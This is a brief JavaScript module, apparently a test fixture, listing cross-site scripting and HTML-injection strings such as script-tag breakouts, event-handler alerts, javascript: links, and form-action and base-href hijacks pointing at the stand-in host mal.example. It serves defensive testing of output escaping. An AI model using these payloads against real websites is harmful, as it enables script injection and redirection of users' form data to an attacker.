/** Texts that would act where a page took them for its own. */
export const hostile = [
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  'javascript:alert(1)',
  '[clique](javascript:alert(1)) [aqui](data:text/html,x)',
  '<svg/onload=alert(1)><iframe srcdoc="x">',
  '<!-- --><style>*{}</style><form action=//mal.example>',
  '\u2028</title></style></template><base href="//mal.example">',
]
